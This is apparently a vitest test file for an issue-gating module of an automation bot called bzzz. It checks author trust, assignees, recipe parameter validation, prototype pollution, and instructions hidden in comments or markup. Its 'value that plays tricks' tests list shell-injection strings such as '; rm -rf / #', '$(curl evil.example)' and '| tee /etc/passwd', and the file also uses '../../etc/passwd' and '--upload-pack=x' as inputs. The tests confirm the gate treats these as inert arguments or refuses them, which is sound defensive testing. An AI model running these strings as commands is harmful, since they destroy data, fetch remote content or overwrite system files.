import { Account, type Issue, issueHash, type Policy, parsePolicy } from '@bzzz/protocol';
import { describe, expect, it } from 'vitest';
import { type GateVerdict, isAsked, judgeIssue } from '../../src/task/gate.ts';
import { issueOf, repo } from '../support/memory-forge.ts';

const policy = parsePolicy(`
version: 1
recipes:
  format: {run: [fmt, .], accept: [check]}
  rename:
    run: [[sed, "s/{from}/{to}/"], [note, "{from}", "{to}"]]
    accept: [[check, "{to}"]]
    parameters: {from: "[A-Za-z_]+", to: "[A-Za-z_]+"}
    needs: [sed]
  free:
    run: [echo, "{text}"]
    accept: [check]
    parameters: {text: ".*"}
  odd:
    run: [echo, "{constructor}"]
    accept: [check]
`);

function judge(change: Parameters<typeof issueOf>[0], fenceAccounts: string[] = []): GateVerdict {
  return judgeAs(policy, issueOf(change), fenceAccounts);
}

function judgeAs(policy: Policy, issue: Issue, fenceAccounts: string[] = []): GateVerdict {
  return judgeIssue(issue, {
    policy,
    fenceAccounts: fenceAccounts.map((one) => Account.parse(one)),
    repo,
  });
}

function body(...lines: string[]) {
  return { body: lines.join('\n') };
}

function refusal(cause: string, reason: RegExp) {
  return { kind: 'refused', cause, reason: expect.stringMatching(reason) };
}

describe('an eligible issue', () => {
  it('comes to argument vectors with nothing left to interpret', () => {
    const asked = body('Please.', 'recipe: rename', 'from: fooBar', 'to: foo_bar', '', 'Thanks');
    expect(judge(asked)).toEqual({
      kind: 'eligible',
      plan: {
        kind: 'rename',
        job: {
          kind: 'recipe',
          commands: [
            ['sed', 's/fooBar/foo_bar/'],
            ['note', 'fooBar', 'foo_bar'],
          ],
          sources: ['maintainer', 'author'],
          network: [],
        },
        accept: [['check', 'foo_bar']],
        needs: { executors: ['recipe'], tools: ['sed'], models: [] },
        bodySha256: issueHash(issueOf(asked)),
        after: [],
        blockedByOpen: 0,
      },
    });
  });
});

describe('an issue that nobody asks bzzz to do', () => {
  it('is refused as such: closed, or without a label of the policy', () => {
    expect(judge({ state: 'closed' })).toMatchObject(refusal('unasked', /closed/));
    expect(judge({ labels: ['bug'] })).toMatchObject(refusal('unasked', /label/));
    expect(isAsked(issueOf({ labels: ['bug', 'bzzz'] }), policy)).toBe(true);
  });
});

describe('an issue that names others which must be closed first', () => {
  it('is a plan that says so, and is judged no further here', () => {
    const asked = body('recipe: format', '', 'Depends on #3, acme/widgets#4');
    const verdict = judge({ ...asked, blockedByOpen: 2 });
    expect(verdict).toMatchObject({ plan: { after: [3, 4], blockedByOpen: 2 } });
  });

  it('is refused when they cannot be followed, or are not seen by people', () => {
    const far = body('recipe: format', 'depends on other/thing#3');
    expect(judge(far)).toMatchObject(
      refusal('request', /other\/thing#3, which cannot be followed/),
    );
    const hidden = body('recipe: format', '<!-- depends on #3 -->');
    expect(judge(hidden)).toMatchObject({ plan: { after: [] } });
  });
});

describe('people win (invariant 4)', () => {
  it('when somebody is assigned whom the fence does not name', () => {
    const both = { assignees: ['bzzz-bot', 'mara'] };
    expect(judge(both, ['bzzz-bot'])).toMatchObject(refusal('people', /assigned to mara/));
    // Our own account, where no fence names it: a person who shares it took the issue.
    expect(judge({ assignees: ['bzzz-bot'] })).toMatchObject(refusal('people', /bzzz-bot/));
  });

  it('but the accounts of this and of former holders are bzzz itself', () => {
    const assignees = ['bzzz-bot', 'bot-old'];
    expect(judge({ assignees }, ['bzzz-bot', 'bot-old']).kind).toBe('eligible');
    expect(judge({ assignees }, ['bzzz-bot'])).toMatchObject(refusal('people', /bot-old/));
  });

  it.each(['NONE', 'CONTRIBUTOR', 'FIRST_TIMER', 'MANNEQUIN'])(
    'and nothing is done for an author who is %s (invariant 11)',
    (association) => {
      expect(judge({ association })).toMatchObject(refusal('author', /trusts OWNER/));
    },
  );

  it('whatever the issue asks for: an untrusted author learns nothing about recipes', () => {
    const probe = { association: 'NONE', ...body('recipe: secret') };
    expect(judge(probe)).toMatchObject(refusal('author', /trusts/));
  });
});

describe('a request that must be mended', () => {
  it.each([
    ['names no recipe', body('Do something!'), /no recipe/],
    ['an unknown recipe', body('recipe: deploy'), /no recipe "deploy"/],
    ['a name that is none', body('recipe: ../../etc/passwd'), /recipe/],
    ['a parameter twice', body('recipe: rename', 'from: a', 'from: b'), /twice/],
    ['a missing parameter', body('recipe: rename', 'from: a'), /\{to\}/],
    ['a surplus parameter', body('recipe: format', 'path: src'), /no parameter path/],
    ['a value that does not match', body('recipe: rename', 'from: a b', 'to: c'), /match/],
    ['a value that matches in part only', body('recipe: rename', 'from: a;b', 'to: c'), /match/],
    ['an empty value', body('recipe: rename', 'from:', 'to: c'), /match/],
    ['an option in place of a value', body('recipe: free', 'text: --upload-pack=x'), /"-"/],
    ['a single dash', body('recipe: free', 'text: -'), /"-"/],
    ['too long a value', body('recipe: free', `text: ${'x'.repeat(300)}`), /text/],
  ])('is refused: %s', (_, change, reason) => {
    expect(judge(change)).toMatchObject(refusal('request', reason));
  });

  it.each(['constructor', 'tostring', 'valueof', 'hasownproperty', 'prototype'])(
    'is refused: the prototype has %s, the policy has not',
    (name) => {
      expect(judge(body(`recipe: ${name}`)).kind).toBe('refused');
      expect(judge(body('recipe: format', `${name}: x`)).kind).toBe('refused');
    },
  );

  it('is refused: a prototype name as a parameter of nothing', () => {
    for (const name of ['__proto__', 'toString', 'hasOwnProperty']) {
      expect(judge(body(`recipe: ${name}`)).kind, name).toBe('refused');
    }
    // A placeholder that is also a name of every object still needs a value of its own.
    expect(judge(body('recipe: odd'))).toMatchObject(refusal('request', /\{constructor\}/));
  });

  it('does not let a parameter reach the prototype', () => {
    const verdict = judge(body('recipe: free', 'text: x', '__proto__: y'));
    expect(Object.hasOwn(Object.prototype, 'y')).toBe(false);
    if (verdict.kind === 'eligible')
      expect(verdict.plan.job).toMatchObject({ commands: [['echo', 'x']] });
  });
});

describe('a value that plays tricks', () => {
  it.each([
    '; rm -rf / #',
    '$(curl evil.example)',
    '`id`',
    '| tee /etc/passwd',
    "' || true; '",
    '&& reboot',
    '%s%n',
    '{from}',
    '$&',
    '$1',
    '\\',
  ])('stays one argument: %s', (text) => {
    const verdict = judge(body('recipe: free', `text: ${text}`));
    expect(verdict).toMatchObject({
      kind: 'eligible',
      plan: { job: { commands: [['echo', text]] } },
    });
  });

  it('cannot reach past a pattern by its alternatives', () => {
    const loose = parsePolicy(
      'version: 1\nrecipes: {go: {run: [go, "{to}"], accept: [t], parameters: {to: "a|b"}}}',
    );
    const at = (to: string) => judgeAs(loose, issueOf(body('recipe: go', `to: ${to}`))).kind;
    expect([at('a'), at('b'), at('ax'), at('xb')]).toEqual([
      'eligible',
      'eligible',
      'refused',
      'refused',
    ]);
  });
});

describe('text that a person does not see', () => {
  it('names no recipe', () => {
    expect(judge(body('<!-- recipe: format -->'))).toMatchObject(refusal('request', /no recipe/));
    expect(judge(body('<!--', 'recipe: format', '-->')).kind).toBe('refused');
    expect(judge(body('<!--', 'recipe: format')).kind).toBe('refused');
  });

  it('does not change what the visible text names', () => {
    const asked = body('<!-- recipe: free', 'text: hidden -->', 'recipe: format');
    expect(judge(asked)).toMatchObject({ plan: { kind: 'format' } });
    const invisible = body('recipe: for\u200bmat\u202e');
    expect(judge(invisible)).toMatchObject({ plan: { kind: 'format' } });
  });

  const asked = ['', 'recipe: free', 'text: boo', ''].join('\n');
  it.each([
    ['the text of an image', `![a${asked}](x.png)`],
    ['the title of a link', `[x](https://e.com "${asked}")`],
    ['the title of a definition', `\n\n[x]: https://e.com "${asked}"`],
    ['an attribute', `<a title="${asked}">x</a>`],
    ['the sources of a picture', `\n<picture><source srcset="${asked}"></picture>`],
    ['a section of data', `<![CDATA[${asked}]]>`],
    ['a footnote', `\n\n[^1]: a${asked}`],
    ['a remark of a diagram', `\n\n\`\`\`mermaid\n%%${asked}\`\`\``],
    ['a value: an image', 'see\nrecipe: free\ntext: a ![b](x.png)'],
    ['a value: an attribute', 'see\nrecipe: free\ntext: <a title="b">a</a>'],
    ['what it waits for', '<a title="\ndepends on #77\n">x</a>'],
    ['what it is to pass', '![a\naccept: lint\n](x.png)'],
    ['which model it needs', '[x](y "\nneeds: model=big\n")'],
  ])('decides nothing, and is left to a person: %s', (_, hides) => {
    const plain = parsePolicy(`
version: 1
recipes: {free: {run: [echo, "{text}"], accept: [check], parameters: {text: ".*"}}}
acceptances: {lint: [check]}
plain: {models: ["m:1", "big:1"], accept: [check]}
`);
    const at = (text: string) => judgeAs(plain, issueOf({ body: text }));
    expect(at(`Fix the typo. ${hides}\n`)).toMatchObject(
      refusal('request', /where the page does not show it/),
    );
    expect(at('Fix the typo.')).toMatchObject({ plan: { kind: 'plain', after: [] } });
  });

  it('changes nothing where it asks for nothing', () => {
    const both = body('![text](x.png)', '', '```', 'recipe: format', '```', '[r]: u "words"');
    expect(judge(both)).toMatchObject({ plan: { kind: 'format' } });
  });

  it('still counts for the hash: what is claimed is all of the body', () => {
    const [plain, more] = [body('recipe: format'), body('recipe: format', '<!-- more -->')];
    const hashOf = (change: object) => {
      const verdict = judge(change);
      return verdict.kind === 'eligible' ? verdict.plan.bodySha256 : 'refused';
    };
    expect(hashOf(plain)).not.toBe(hashOf(more));
  });
});
